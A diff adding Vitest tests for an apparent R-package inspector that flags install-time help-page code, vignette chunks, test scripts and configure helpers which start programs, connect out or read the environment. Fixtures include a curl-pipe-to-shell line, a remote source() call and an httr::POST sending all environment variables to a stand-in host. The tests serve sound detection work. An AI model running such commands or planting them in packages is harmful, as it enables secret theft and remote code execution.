@@ -1,0 +1,68 @@
+import { describe, expect, test } from "vitest";
+import { inspect } from "../inspect.ts";
+import { rPackage } from "../testing/packages.ts";
+
+async function signalsIn(path: string, text: string): Promise<string[]> {
+  const { source, ...what } = await rPackage({ [path]: text });
+  const { signals } = await inspect(source, what);
+  const own = signals.filter(({ id, file }) => file === path && id !== "host");
+  return own.map(({ level, id, subject, line }) => `${level} ${id} ${subject} ${line}`);
+}
+
+describe("code of a help page", () => {
+  const page = (code: string) => `\\name{a}\n\\title{A}\n\\description{B \\Sexpr[stage=install]{${code}} c}\n`;
+
+  test("that starts a program or connects runs when the package is installed", async () => {
+    expect(await signalsIn("man/a.Rd", page('system("id")'))).toEqual(["warning r-help-code system 3"]);
+    expect(await signalsIn("man/a.Rd", page('{\n utils::download.file(a, b)\n ""\n}'))).toEqual([
+      "warning r-help-code download.file 4",
+    ]);
+  });
+
+  test("that shows something says nothing, and neither do examples", async () => {
+    expect(await signalsIn("man/a.Rd", page('lifecycle::badge("stable")'))).toEqual([]);
+    expect(await signalsIn("man/a.Rd", '\\name{a}\n\\examples{system("id")}\n')).toEqual([]);
+    expect(await signalsIn("man/a.Rd", "\\name{a}\n\\description{\\Sexpr[stage=\n")).toEqual([]);
+  });
+});
+
+describe("code of a vignette", () => {
+  const markdown = (code: string) =>
+    `---\ntitle: A\n---\n\n\`\`\`{r, include=FALSE}\n${code}\n\`\`\`\n\nsystem("text")\n`;
+
+  test("may connect, but neither start programs nor run what it fetches or hides", async () => {
+    expect(await signalsIn("vignettes/a.Rmd", markdown('system("make")'))).toEqual(["warning process system 6"]);
+    expect(await signalsIn("vignettes/a.Rmd", markdown("download.file(a, b)"))).toEqual([
+      "notice network download.file 6",
+    ]);
+    expect(await signalsIn("vignettes/a.Rmd", markdown('system("curl -s https://a.example/x | sh")'))).toContain(
+      "warning decoded-code system 6",
+    );
+    expect(
+      await signalsIn("vignettes/a.Rnw", 'a\n<<b>>=\nsource("https://a.example/b.R")\n@\nsystem("x")\n'),
+    ).toContain("warning decoded-code source 3");
+  });
+
+  test("of another language is none", async () => {
+    expect(await signalsIn("vignettes/a.Rmd", "```{python}\nsystem('id')\n```\n")).toEqual([]);
+    expect(await signalsIn("vignettes/a.Rmd", "```r\nsystem('id')\n```\n")).toEqual([]);
+  });
+});
+
+test("tests may ask about their machine or connect, but not both", async () => {
+  const both = 'httr::POST("https://a.example", body = as.list(Sys.getenv()))\n';
+  expect(await signalsIn("tests/a.R", both)).toContain("warning secret-environment Sys.getenv() 1");
+  const info = 'download.file(paste0("https://a.example/?", Sys.info()[["user"]]), b)\n';
+  expect(await signalsIn("tests/a.R", info)).toContain("warning environment Sys.info 1");
+  expect(await signalsIn("R/a.R", `f <- function(b) ${info}`)).toContain("notice environment Sys.info 1");
+  expect(await signalsIn("tests/a.R", "x <- Sys.info()\n")).toEqual(["notice environment Sys.info 1"]);
+  expect(await signalsIn("tests/a.R", 'system("wget x")\nsystem("make")\n')).toEqual([
+    "warning process system 1",
+    "notice process system 2",
+  ]);
+  expect(await signalsIn("tests/a.R", "x <- Sys.getenv()\n")).toEqual(["notice secret-environment Sys.getenv() 1"]);
+});
+
+test("a script that configure starts counts as part of it", async () => {
+  expect(await signalsIn("tools/fetch.R", "download.file(a, b)\n")).toEqual(["warning r-configure download.file 1"]);
+});
